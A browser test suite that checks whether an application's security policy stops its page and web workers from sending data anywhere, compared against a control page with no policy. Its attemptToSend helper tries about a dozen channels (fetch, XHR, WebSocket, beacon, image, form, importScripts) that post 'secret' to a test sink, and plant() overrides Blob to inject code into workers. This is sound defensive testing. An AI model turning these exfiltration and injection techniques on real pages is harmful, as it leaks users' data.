// Nothing leaves: whatever code runs in the page or in a worker that the page starts, it reaches no other address. The same
// attempts on a page without the policy do arrive, so silence means that the policy holds.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";

import {
  addressOf, builds, firefoxMissing, launchChromium, launchFirefox, openSink, openTab, serveDist,
} from "./lib.mjs";

/** Runs in a page or a worker: tries every way of sending to `host` that exists there and names those it tried. */
async function attemptToSend({ host, who }) {
  const address = (kind) => `http://${host}/${who}/${kind}`;
  const settled = (target, events) =>
    new Promise((resolve) => events.forEach((name) => target.addEventListener(name, resolve, { once: true })));
  const attempts = {
    fetch: () => fetch(address("fetch"), { method: "POST", mode: "no-cors", body: "secret" }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", address("xhr"));
      request.send("secret");
      return settled(request, ["loadend"]);
    },
    websocket: () => settled(new WebSocket(`ws://${host}/${who}/websocket`), ["open", "close"]),
    eventsource: () => {
      const source = new EventSource(address("eventsource"));
      return settled(source, ["open", "error"]).then(() => source.close());
    },
    import: () => import(address("import")),
  };
  if (typeof navigator.sendBeacon === "function") attempts.beacon = () => navigator.sendBeacon(address("beacon"), "secret");
  if (typeof document === "undefined") {
    attempts.importscripts = () => importScripts(address("importscripts"));
  } else {
    attempts.image = () => {
      const image = new Image();
      image.src = address("image");
      return settled(image, ["load", "error"]);
    };
    attempts.form = () => {
      const form = Object.assign(document.createElement("form"), { action: address("form"), method: "post", target: "hidden" });
      const frame = Object.assign(document.createElement("iframe"), { name: "hidden" });
      document.body.append(frame, form);
      form.submit();
    };
  }
  for (const attempt of Object.values(attempts)) {
    const patience = new Promise((resolve) => setTimeout(resolve, 2000));
    // A refusal is what we hope for; what counts is what the sink hears.
    try {
      await Promise.race([attempt(), patience]);
    } catch {}
  }
  return Object.keys(attempts);
}

/** Runs in the page: a worker loaded from an address would not inherit the policy, so it must not start. */
function startWorkerByAddress(address) {
  return new Promise((resolve) => {
    try {
      const worker = new Worker(address);
      worker.addEventListener("message", () => resolve("started"));
      worker.addEventListener("error", () => resolve("refused"));
    } catch {
      resolve("refused");
    }
  });
}

/** Runs in a page before its own scripts: puts the attempts into every worker it will start, asleep until asked for. */
function plant(attemptSource) {
  const sleeper = `
addEventListener("message", async (event) => {
  if (!event.data?.strataTest) return;
  event.stopImmediatePropagation();
  postMessage({ strataTried: await (${attemptSource})(event.data.strataTest) });
});`;
  globalThis.Blob = class extends Blob {
    constructor(parts, options) {
      super(options?.type === "text/javascript" ? [...parts, sleeper] : parts, options);
    }
  };
}

/** Runs in a page: starts a worker as the application does, waits until it is ready, and wakes the attempts in it. */
function attemptInWorker(target) {
  return new Promise((resolve, reject) => {
    const worker = globalThis.strataSpawnWorker();
    worker.addEventListener("message", () => worker.postMessage({ strataTest: target }), { once: true });
    worker.addEventListener("message", ({ data }) => data?.strataTried && resolve(data.strataTried));
    worker.addEventListener("error", (event) => reject(new Error(event.message)));
  });
}

/** Runs in the control page: the application's way of starting workers, without the application. */
function defineSpawn() {
  globalThis.strataSpawnWorker = () => {
    const source = new Blob(["postMessage('ready');"], { type: "text/javascript" });
    return new Worker(URL.createObjectURL(source), { name: "strata" });
  };
}

const controlPage = "<!doctype html><meta charset=utf-8><title>no policy</title><link rel=icon href=data:,>";
const extra = { "/control.html": controlPage, "/worker.js": "postMessage('started')" };

const engines = {
  chromium: { launch: launchChromium, skip: false },
  firefox: { launch: launchFirefox, skip: firefoxMissing },
};

for (const [name, { launch, skip }] of Object.entries(engines)) {
  describe(name, { skip }, () => {
    let browser, server;
    before(async () => {
      server = await serveDist({ extra });
      browser = await launch();
    });
    after(async () => {
      await browser?.close();
      await server?.close();
    });

    /** Tries everything on a page and in a worker of it; gives what was tried and what the sink heard. */
    async function trySending(address, prepare) {
      const sink = await openSink();
      const tab = await openTab(browser, { address, prepare: plant, prepareArgument: attemptToSend.toString() });
      try {
        if (prepare) await tab.page.evaluate(prepare);
        await tab.started();
        const inWorker = await tab.page.evaluate(attemptInWorker, { host: sink.host, who: "worker" });
        const inPage = await tab.page.evaluate(attemptToSend, { host: sink.host, who: "page" });
        const byAddress = await tab.page.evaluate(startWorkerByAddress, `${server.origin}/worker.js`);
        await sleep(300);
        const tried = [...inWorker.map((kind) => `worker/${kind}`), ...inPage.map((kind) => `page/${kind}`)];
        const heard = sink.heard.map((line) => line.split(" ")[1].slice(1));
        return { tried, heard, byAddress, recorded: tab.requests.map((url) => url.split(`${sink.host}/`)[1]) };
      } finally {
        await tab.discard();
        await sink.close();
      }
    }

    test("without the policy everything arrives", async () => {
      const { tried, heard, byAddress, recorded } = await trySending(`${server.origin}/control.html`, defineSpawn);
      assert(tried.includes("worker/fetch") && tried.includes("worker/websocket") && tried.includes("page/beacon"));
      assert.deepEqual([...new Set(heard)].sort(), tried.sort());
      assert.equal(byAddress, "started");
      // The harness sees what workers do, in Chromium: its records are what the tests of the whole journey rest on.
      const seen = name === "firefox" ? ["page/fetch", "page/xhr"] : ["page/fetch", "page/xhr", "worker/fetch", "worker/xhr"];
      assert.deepEqual(seen.filter((kind) => !recorded.includes(kind)), []);
    });

    for (const build of builds) {
      test(`the ${build} build cannot send from the page or its workers`, async () => {
        const { tried, heard, byAddress } = await trySending(addressOf(build, server));
        assert(tried.length >= 12, `only tried ${tried}`);
        assert.deepEqual(heard, []);
        assert.equal(byAddress, "refused");
      });
    }
  });
}
